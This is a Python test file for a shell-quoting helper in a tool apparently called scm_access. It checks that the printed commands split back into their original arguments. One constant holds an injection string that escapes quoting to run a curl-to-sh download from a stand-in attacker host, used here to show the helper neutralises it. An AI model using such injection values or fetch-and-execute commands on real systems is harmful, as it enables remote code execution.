"""Commands printed for a person to run give back exactly their arguments when a shell splits them."""

import shlex

from hypothesis import given
from hypothesis import strategies as st

from scm_access.instruct.shell import command

HOSTILE = "CI'; curl -s https://evil.example/x | sh; echo '"


def test_declared_text_stays_one_argument():
    line = command("ssh-keygen", "-C", HOSTILE, "-f", "repo-deploy-key")
    assert shlex.split(line) == ["ssh-keygen", "-C", HOSTILE, "-f", "repo-deploy-key"]


def test_plain_words_are_printed_as_they_are():
    assert command("scm-access", "verify", "demo", "--holder", "alice") == "scm-access verify demo --holder alice"


@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")), min_size=1))
def test_any_arguments_round_trip_through_a_shell_split(argv):
    assert shlex.split(command(*argv)) == argv
